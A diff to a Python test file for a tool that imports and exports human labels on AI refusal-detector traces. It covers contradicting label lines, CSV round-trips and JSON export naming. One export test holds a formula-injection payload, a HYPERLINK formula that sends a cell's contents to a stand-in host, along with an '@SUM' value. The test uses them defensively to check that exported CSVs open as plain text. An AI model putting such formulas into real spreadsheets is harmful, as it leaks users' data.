@@ -113,6 +113,7 @@ def test_jsonl_import_resolves_span_ids_and_names_bad_lines(store, tmp_path):
         {"detector": "over_refusal", "label": True},
         {"trace_id": t2, "detector": "under_refusal", "label": "no"},
         {"trace_id": t1, "span_id": "f" * 16, "detector": "over_refusal", "label": True},
+        {"trace_id": t3, "detector": "under_refusal", "label": "yes", "source": "synthetic:me"},
     ]
     path = tmp_path / "labels.jsonl"
     path.write_text(
@@ -121,8 +122,9 @@ def test_jsonl_import_resolves_span_ids_and_names_bad_lines(store, tmp_path):
     result = labels.import_labels(db, path, source="team-review")
     assert result.added == 2
     problems = dict(result.bad)
-    assert sorted(problems) == [3, 4, 5, 6, 7, 8, 9, 10]
+    assert sorted(problems) == [2, 3, 4, 5, 6, 7, 8, 9, 10]
     assert problems[9] == "contradicts line 2 for the same trace and detector"
+    assert problems[2] == "contradicted by a later line (neither is imported)"
     assert f"span {'f' * 16} is not in trace {t1} (a typo? its spans:" in problems[10]
     assert problems[3].startswith("not JSON")
     assert problems[4] == "expected a JSON object per line"
@@ -133,7 +135,7 @@ def test_jsonl_import_resolves_span_ids_and_names_bad_lines(store, tmp_path):
     assert _labels(db) == sorted(
         [
             (t1, r1, "over_refusal", True, "team-review", "by span"),
-            (t2, None, "under_refusal", True, "synthetic:me", None),
+            (t3, None, "under_refusal", True, "synthetic:me", None),
         ]
     )
     assert labels.is_synthetic("synthetic:me") and not labels.is_synthetic("team-review")
@@ -178,8 +180,9 @@ def test_a_sheet_in_another_encoding_costs_its_bad_lines_and_a_stray_column_the_
         f"{t3},under_refusal,true,2025-01-02T00:00:00\n"  # the same time as line 3, not 2
     )
     result = labels.import_labels(db, timed)
-    assert result.added == 2 and result.bad == [
-        (4, "contradicts line 3 for the same trace and detector")
+    assert result.added == 1 and result.bad == [
+        (3, "contradicted by a later line (neither is imported)"),
+        (4, "contradicts line 3 for the same trace and detector"),
     ]
     ahead = tmp_path / "ahead.csv"
     ahead.write_text(f"trace_id,detector,label,created_at\n{t2},under_refusal,false,2999-01-01\n")
@@ -317,7 +320,7 @@ def test_importing_a_file_again_reasserts_what_a_later_label_changed(store, tmp_
 @pytest.mark.process
 def test_a_csv_export_opens_as_text_in_a_spreadsheet_and_imports_back_the_same(store, tmp_path):
     db, (t1, t2, _), _ = store
-    notes = ['=HYPERLINK("http://x.example/?"&A1,"click")', "'@SUM(1+1)"]
+    notes = ['=HYPERLINK("http://x.example/?"&A1,"click")', "'@SUM(1+1)\rsecond line"]
     labels.add_label(db, t1, "over_refusal", True, note=notes[0], source="@lead")
     labels.add_label(db, t2, "over_refusal", False, note=notes[1])
     exported = tmp_path / "labels.csv"
@@ -336,3 +339,15 @@ def test_a_csv_export_opens_as_text_in_a_spreadsheet_and_imports_back_the_same(s
         con.execute("DELETE FROM labels")
     assert labels.import_labels(copy, exported).added == 2
     assert _labels(copy) == _labels(db)
+
+
+@pytest.mark.process
+@pytest.mark.parametrize("suffix", [".json", ".ndjson"])
+def test_an_export_named_as_json_is_written_as_the_jsonl_import_reads(store, tmp_path, suffix):
+    db, (t1, *_), _ = store
+    labels.add_label(db, t1, "over_refusal", True, note="checked")
+    exported = tmp_path / f"labels{suffix}"
+    assert run_cli("labels", "export", "--db", str(db), "--out", str(exported)).returncode == 0
+    assert json.loads(exported.read_text().splitlines()[0])["note"] == "checked"
+    refused = run_cli("labels", "export", "--db", str(db), "--out", str(tmp_path / "x.txt"))
+    assert refused.returncode != 0 and ".csv and .jsonl" in refused.stderr
